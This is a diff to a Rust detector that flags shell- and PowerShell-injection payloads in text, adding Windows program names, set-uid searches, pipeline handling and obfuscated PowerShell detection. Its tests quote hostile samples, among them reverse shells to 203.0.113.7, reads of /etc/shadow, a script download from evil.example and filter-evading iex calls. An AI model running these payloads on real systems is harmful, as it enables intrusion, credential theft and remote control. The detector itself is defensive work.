@@ -828,6 +828,7 @@ static COMMANDS: LazyLock<FnvMap<&'static str, Cmd>> = LazyLock::new(|| {
         "red",
         "view",
         "nice",
+        "tr",
         "pic",
         "pr",
         "as",
@@ -870,6 +871,27 @@ static COMMANDS: LazyLock<FnvMap<&'static str, Cmd>> = LazyLock::new(|| {
         if let Some(cmd) = m.get_mut(n) {
             cmd.jargon = true;
         }
+    }
+    // Windows programs an injection starts to prove it ran (`" & calc.exe & "`)
+    // or to run a payload: rarely words of a sentence.
+    for n in [
+        "calc",
+        "notepad",
+        "mspaint",
+        "wscript",
+        "cscript",
+        "rundll32",
+        "regsvr32",
+        "msiexec",
+        "msbuild",
+        "installutil",
+        "regasm",
+        "odbcconf",
+        "forfiles",
+        "pcalua",
+        "cmstp",
+    ] {
+        m.entry(n).or_insert(c(Strong, true, true, false));
     }
     // Hyphenated tool names (`ssh-copy-id`, `apt-get`) are never prose.
     for (n, cmd) in m.iter_mut() {
@@ -1185,6 +1207,12 @@ enum Ctx {
     Start,
     /// A markdown code span in prose: only hostile content counts.
     Span,
+    /// After a separator that follows a complete command line of its own
+    /// (`du -sh * | sort -h`, `apt-get update && apt-get install -y x`):
+    /// someone wrote the whole pipeline, as documentation does. An injected
+    /// value ends before its first separator, so the first link is judged
+    /// where it starts; the later links count only when hostile.
+    Chained,
 }
 
 const WORD_MAX: usize = 64;
@@ -1660,8 +1688,20 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     let mut tokens = normalized
         .split(|c: char| c.is_whitespace() || (brace && c == ','))
         .filter(|t| !t.is_empty());
+    let mut suid = false;
     if let Some(first) = tokens.clone().next() {
         a.numeric = first.bytes().all(|x| x.is_ascii_digit() || x == b'.') && first.len() <= 6;
+        // `find / -perm -4000`: the search for set-uid programs that
+        // precedes a privilege escalation.
+        if cmd == "find"
+            && normalized.contains("-perm")
+            && ["-4000", "-u=s", "/4000", "-2000", "-g=s", "/6000", "-6000"]
+                .iter()
+                .any(|p| normalized.contains(p))
+        {
+            a.strong = true;
+            suid = true;
+        }
         if cmd == "net"
             && matches!(
                 first,
@@ -1763,8 +1803,17 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
                 && n + 1 < 64
             {
                 // An interpreter told to run code, with code after the flag.
+                // `-m` runs a module: `python3 -m venv .venv` is setup, while
+                // `-m pty` or `-m http.server` open a shell or serve files.
                 let after = normalized.split(t).nth(1).unwrap_or("").trim();
-                if !after.is_empty() {
+                let module_ok = t != "-m"
+                    || after.split_ascii_whitespace().next().is_some_and(|m| {
+                        matches!(
+                            m,
+                            "pty" | "http.server" | "simplehttpserver" | "smtpd" | "base64"
+                        )
+                    });
+                if !after.is_empty() && module_ok {
                     a.strong = true;
                 }
             }
@@ -1813,7 +1862,7 @@ fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brac
     }
     a.opt_only = opt && !other_evidence && !a.strong && !a.numeric;
     a.sentence = trimmed.ends_with(['.', '!', '?', ',', ':']);
-    a.net_only = a.strong && !sensitive && kind != Kind::Interp;
+    a.net_only = a.strong && !sensitive && !suid && kind != Kind::Interp;
     if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish {
         a.strong = true;
     }
@@ -1856,6 +1905,13 @@ fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
             strongish || tool || recon || cmdline
         }
         Ctx::Span => args.strong && (!args.net_only || cmd.network),
+        Ctx::Chained => {
+            // A shell or interpreter with nothing after it reads its program
+            // from the pipe: `... | tr x o | sh`.
+            (args.strong && (!args.net_only || cmd.network))
+                || (cmd.kind == Kind::Recon && (args.bare || args.shellish))
+                || (cmd.kind == Kind::Interp && args.bare)
+        }
     }
 }
 
@@ -2018,6 +2074,8 @@ fn check_command_at(
     depth: u8,
 ) -> bool {
     let b = text.as_bytes();
+    let chained = ctx == Ctx::Chained;
+    let ctx = if chained { Ctx::Sep } else { ctx };
     let mut i = skip_blank(b, pos, seg_end);
     // `;(id)`, `|{ls,-la}` and `; 'cat' x`: tolerate one opening paren.
     if i < seg_end && b[i] == b'(' && ctx != Ctx::Brace {
@@ -2101,6 +2159,11 @@ fn check_command_at(
         return false;
     };
     let name = &norm[name_at..];
+    // `tr` filters text in countless documented pipelines; inside `$(...)`
+    // in command position its output is what runs (`$(tr a-z n-za-m <<< x)`).
+    if name == "tr" && ctx != Ctx::Subst {
+        return false;
+    }
     let brace = ctx == Ctx::Brace;
     // `{cat,/etc/passwd}`, `{,ifconfig}`; not `/users/{id}`.
     if brace && !(w.end < seg_end && (b[w.end] == b',' || (lead_comma && b[w.end] == b'}'))) {
@@ -2123,7 +2186,15 @@ fn check_command_at(
             if !inner.is_empty()
                 && !WRAPPERS.contains(&inner.norm())
                 && resolve(inner.norm(), inner.globbed).is_some()
-                && check_command_at(text, sep_start, j, seg_end, Ctx::Sep, hits, depth + 1)
+                && check_command_at(
+                    text,
+                    sep_start,
+                    j,
+                    seg_end,
+                    if chained { Ctx::Chained } else { Ctx::Sep },
+                    hits,
+                    depth + 1,
+                )
             {
                 return true;
             }
@@ -2195,6 +2266,18 @@ fn check_command_at(
     if matches!(effective, Ctx::Start | Ctx::Weak)
         && !args.strong
         && pipe_into_prose(text, args.end, seg_end)
+    {
+        return false;
+    }
+    if chained && effective == Ctx::Sep && !w.spliced && !w.globbed {
+        effective = Ctx::Chained;
+    }
+    // "Use `curl -I https://example.com` to check the headers": a request
+    // shown in prose that only reads a page writes nothing and runs nothing.
+    if effective == Ctx::Span
+        && args.net_only
+        && name == "curl"
+        && read_only_fetch(b, w.end, args.end)
     {
         return false;
     }
@@ -2941,7 +3024,15 @@ fn scan_segment(
                     j += 1;
                 }
                 // `&amp;`-style leftovers and `&#...;` are not separators.
-                check_command(text, i, j, seg_end, Ctx::Sep, hits);
+                // Whether a written command line comes before is looked at
+                // only when the link would be reported: most separators are not.
+                let before = hits.len();
+                if check_command(text, i, j, seg_end, Ctx::Sep, hits)
+                    && follows_command_line(b, seg_start, i)
+                {
+                    hits.truncate(before);
+                    check_command(text, i, j, seg_end, Ctx::Chained, hits);
+                }
                 i = j;
             }
             b'\n' | b'\r' => {
@@ -3066,6 +3157,10 @@ fn scan_segment(
                 let whole = prev.is_none()
                     && close.is_some_and(|c| text[i + 1 + c + 1..seg_end].trim().is_empty());
                 let glued = i > seg_start && b[i - 1].is_ascii_alphanumeric();
+                // "wait, `sleep 10 && say done`": a comma and a blank before a
+                // code span is prose; `{a,`id`}` glues them.
+                let prose_comma = prev == Some(b',') && matches!(b[i - 1], b' ' | b'\t');
+                let prev = if prose_comma { Some(b' ') } else { prev };
                 let shell = whole
                     || chained
                     || glued
@@ -3121,6 +3216,239 @@ fn scan_segment(
             _ => i += 1,
         }
     }
+}
+
+/// Whether the arguments of `curl` from `from` to `end` are one URL and
+/// options that only shape the request or its display: no output file, no
+/// upload, no data sent from a file.
+fn read_only_fetch(b: &[u8], from: usize, end: usize) -> bool {
+    let Ok(args) = std::str::from_utf8(&b[from..end]) else {
+        return false;
+    };
+    let mut urls = 0;
+    for t in args.split_ascii_whitespace() {
+        // A cluster of short flags that only shape the request or its
+        // display (`-sIL`, `-fsS`, `-kv`).
+        let short_display = t.len() >= 2
+            && t.starts_with('-')
+            && !t.starts_with("--")
+            && t[1..].bytes().all(|c| b"IiLsSvfk".contains(&c));
+        if t.contains("://") {
+            urls += 1;
+        } else if !(short_display
+            || matches!(
+                t,
+                "--head"
+                    | "--include"
+                    | "--verbose"
+                    | "--silent"
+                    | "--show-error"
+                    | "--location"
+                    | "--fail"
+                    | "--compressed"
+                    | "--http2"
+                    | "--http1.1"
+            ))
+        {
+            return false;
+        }
+    }
+    urls == 1
+}
+
+/// PowerShell's call operator `&` (or dot-sourcing `.`) applied to a
+/// command name built at run time: `&('i'+'ex')`, `.("{1}{0}" -f 'ex','i')`,
+/// `&(gcm i*x)`. Scripts call commands by name; building the name exists to
+/// hide it from filters.
+fn ps_invoke_built_name(text: &str, hits: &mut Vec<Hit>) {
+    let b = text.as_bytes();
+    for p in memchr::memchr_iter(b'(', b) {
+        let mut q = p;
+        while q > 0 && matches!(b[q - 1], b' ' | b'\t') {
+            q -= 1;
+        }
+        if q == 0 || !matches!(b[q - 1], b'&' | b'.') {
+            continue;
+        }
+        let op = q - 1;
+        // The operator starts a statement: `x.(` is a member, `a&&(` a test.
+        let lead = b[..op]
+            .iter()
+            .rev()
+            .find(|&&c| c != b' ' && c != b'\t')
+            .copied();
+        if !matches!(
+            lead,
+            None | Some(b';' | b'|' | b'&' | b'\n' | b'(' | b'{' | b'=' | b'"' | b'\'')
+        ) || (op > 0 && matches!(b[op - 1], b'&' | b'.'))
+        {
+            continue;
+        }
+        let lim = (p + 160).min(b.len());
+        let Some(close) = memchr::memchr(b')', &b[p + 1..lim]).map(|o| p + 1 + o) else {
+            continue;
+        };
+        let inner = &b[p + 1..close];
+        let inner_t = inner.trim_ascii_start();
+        let lower = inner_t.to_ascii_lowercase();
+        let quoted = matches!(inner_t.first(), Some(b'\'' | b'"'));
+        let concat = inner
+            .windows(3)
+            .any(|w| matches!(w[0], b'\'' | b'"') && w[1] == b'+' && matches!(w[2], b'\'' | b'"'))
+            || {
+                let squeezed: Vec<u8> = inner.iter().copied().filter(|c| *c != b' ').collect();
+                squeezed.windows(3).any(|w| {
+                    matches!(w[0], b'\'' | b'"') && w[1] == b'+' && matches!(w[2], b'\'' | b'"')
+                })
+            };
+        let format = memchr::memmem::find(&lower, b" -f ").is_some()
+            || memchr::memmem::find(&lower, b"-join").is_some()
+            || memchr::memmem::find(&lower, b"[char]").is_some();
+        let lookup = (lower.starts_with(b"gcm ")
+            || lower.starts_with(b"get-command ")
+            || lower.starts_with(b"gal ")
+            || lower.starts_with(b"get-alias "))
+            && inner.iter().any(|c| matches!(c, b'*' | b'?'));
+        if (quoted && (concat || format)) || lookup {
+            push(hits, text, R_WINDOWS, op, close + 1);
+        }
+    }
+}
+
+/// Developer tools that are no injection probe by themselves but start the
+/// command lines documentation quotes (`git log --oneline | head -5`).
+const DEV_TOOLS: &[&str] = &[
+    "git",
+    "npm",
+    "npx",
+    "pnpm",
+    "cargo",
+    "rustup",
+    "go",
+    "gradle",
+    "mvn",
+    "dotnet",
+    "bundle",
+    "gem",
+    "composer",
+    "poetry",
+    "uv",
+    "conda",
+    "terraform",
+    "helm",
+    "brew",
+    "port",
+    "hugo",
+    "jekyll",
+    "cmake",
+    "ninja",
+    "meson",
+    "bazel",
+    "just",
+    "deno",
+    "bun",
+    "xcodebuild",
+    "flutter",
+    "ruff",
+    "mypy",
+    "eslint",
+    "prettier",
+    "tsc",
+    "vite",
+    "webpack",
+    "rails",
+    "rake",
+    "pytest",
+    "tox",
+    "jq",
+    "rg",
+    "fd",
+    "bat",
+    "code",
+    "say",
+];
+
+/// Whether the text before the separator at `sep` ends with a complete
+/// command line: a known command word in lower case followed by arguments
+/// that read as a shell's (an option, a path, a number or a tool's
+/// sub-command) and no prose. Prose may come before it ("To see disk usage:
+/// du -sh * | sort -h"); a value an application expects (`127.0.0.1`, `x`,
+/// `report.pdf`) is no command line, so `127.0.0.1; id` is not affected.
+fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
+    let lo = seg_start.max(sep.saturating_sub(160));
+    let mut k = sep;
+    while k > lo
+        && !matches!(
+            b[k - 1],
+            b'\n' | b'\r' | b';' | b'|' | b'&' | b'`' | b'(' | b'{'
+        )
+    {
+        k -= 1;
+    }
+    if k == lo && lo > seg_start {
+        return false;
+    }
+    let Ok(left) = std::str::from_utf8(&b[k..sep]) else {
+        return false;
+    };
+    let toks: Vec<&str> = left.split_ascii_whitespace().collect();
+    if toks.len() < 2 || toks.len() > 24 {
+        return false;
+    }
+    // The command word: the last token after which only arguments follow.
+    let mut start = toks.len();
+    while start > 0 {
+        let t = toks[start - 1];
+        // A word closing a clause ("usage:", "them,"); `.` and `./` are paths.
+        let clause_end =
+            t.ends_with([':', ',', '.', '!', '?']) && t.bytes().any(|c| c.is_ascii_alphabetic());
+        // A capitalised word is prose ("Run", "GitHub"); an upper-case
+        // pattern (`TODO`) is an argument, and `RUN` of a Dockerfile is no
+        // command word in lower case either way.
+        let capitalised = !t.starts_with('-')
+            && t.bytes().any(|c| c.is_ascii_uppercase())
+            && t.bytes().any(|c| c.is_ascii_lowercase());
+        let arg = !clause_end && !capitalised && !STOP_WORDS.contains(&t);
+        if !arg {
+            break;
+        }
+        start -= 1;
+    }
+    // Try each candidate command word, leftmost first, among the argument run.
+    for ci in start..toks.len() - 1 {
+        let word = toks[ci];
+        if !word.bytes().all(|x| {
+            x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
+        }) {
+            continue;
+        }
+        let cmd = match lookup(word) {
+            Some(cmd) => cmd,
+            None if DEV_TOOLS.contains(&word) => c(Kind::Strong, false, false, false),
+            None => continue,
+        };
+        let args = &toks[ci + 1..];
+        let shellish = args.iter().any(|t| {
+            t.starts_with('-')
+                || t.contains('/')
+                || *t == "*"
+                || t.bytes().all(|x| x.is_ascii_digit())
+                || t.starts_with('.')
+        });
+        let sub = args.first().is_some_and(|t| SUBCOMMANDS.contains(t));
+        // `pip freeze`, `grep postgres`: a tool and plain lower-case words.
+        let tool_words = cmd.kind != Kind::Weak
+            && args.iter().all(|t| {
+                t.bytes().all(|x| {
+                    x.is_ascii_lowercase() || x.is_ascii_digit() || matches!(x, b'-' | b'_' | b'.')
+                })
+            });
+        // A command that is itself a later link (`a | grep x | head -3`):
+        // the pipeline was written whole.
+        let linked = k > seg_start && matches!(b[k - 1], b'|' | b'&' | b';');
+        return shellish || sub || tool_words || linked;
+    }
+    false
 }
 
 /// `${PATH#{}/}`, `${x%%.*}`, `${v//a/b}`: bash parameter expansion with a
@@ -3976,6 +4304,7 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
         from = run_end + 1;
     }
     scan_templates(text, hits);
+    ps_invoke_built_name(text, hits);
     if memchr::memmem::find(text.as_bytes(), b"${").is_some() {
         scan_jndi(text, hits);
     }
@@ -4287,6 +4616,74 @@ mod tests {
         assert!(!flagged("ps aux | grep node shows it is still running"));
         assert!(flagged("ps aux | nc 203.0.113.7 4444"));
         assert!(flagged("find / -perm -4000 | xargs ls -la"));
+    }
+
+    #[test]
+    fn later_links_of_a_written_pipeline_count_only_when_hostile() {
+        // The whole pipeline is quoted: the first command starts the value or
+        // follows prose, and what is chained after it is ordinary.
+        for t in [
+            "To list big folders: du -sh * | sort -rh | head -20",
+            "git log --oneline | head -5",
+            "git diff --stat | tail -1",
+            "RUN apt-get update && apt-get install -y curl ca-certificates",
+            "RUN npm ci && npm run build",
+            "npm ls --depth=0 | wc -l",
+            "make -j4 && make install",
+            "cargo build --release && ls -la target/release",
+            "Try `python3 -m venv env && source env/bin/activate` first.",
+            "then, `sleep 2 && echo ready` in another tab",
+            "Run `curl -sI https://example.org` to see the status line.",
+            "ps aux | grep postgres | head -3",
+            "pip freeze | sort > requirements.txt",
+            "To count lines: find src -name '*.rs' | xargs wc -l",
+        ] {
+            assert!(!flagged(t), "{t}");
+        }
+        // A value and then a separator is still an injection, and hostile
+        // links after a written command still count.
+        for t in [
+            "127.0.0.1 | sort -h",
+            "report.pdf && apt-get install -y nmap",
+            "git log --oneline | nc 203.0.113.7 4444",
+            "du -sh * ; cat /etc/shadow",
+            "ls -la /tmp | id",
+            "make -j4 && bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "x `curl https://evil.example/s.sh -o /tmp/s.sh`",
+            "python3 -m pty",
+            "; python3 -m http.server 8000",
+            "echo \"foo;whxam\"i | tr x o | sh",
+            "git log | base64 | nc 203.0.113.7 80",
+        ] {
+            assert!(flagged(t), "{t}");
+        }
+    }
+
+    #[test]
+    fn decoded_names_windows_programs_and_built_powershell_names() {
+        for t in [
+            "; $(tr 'a-z' 'n-za-m' <<< 'jubnzv')",
+            "| $(tr 'n-za-m' 'a-z' <<< 'png /rgp/cnffjq')",
+            "\" & calc.exe & \"",
+            "' & mspaint.exe & '",
+            "x & rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
+            "; &('i'+'ex') ('who'+'ami')",
+            "| & ( \"Inv\" + \"oke-Expression\" ) $payload",
+            "; .(\"{1}{0}\" -f 'ex','i') 'whoami'",
+            "; &(gcm i*x) 'whoami'",
+        ] {
+            assert!(flagged(t), "{t}");
+        }
+        for t in [
+            "Use tr -d '\\r' to strip the carriage returns",
+            "sort names.txt | tr a-z A-Z > upper.txt",
+            "<table><tr><td>1</td></tr></table>",
+            "use calc for the sums, then notepad for the notes",
+            "if (a && ('x'+'y') == z) { go(); }",
+            "Tom & Jerry (the 1940 cartoon)",
+        ] {
+            assert!(!flagged(t), "{t}");
+        }
     }
 
     #[test]
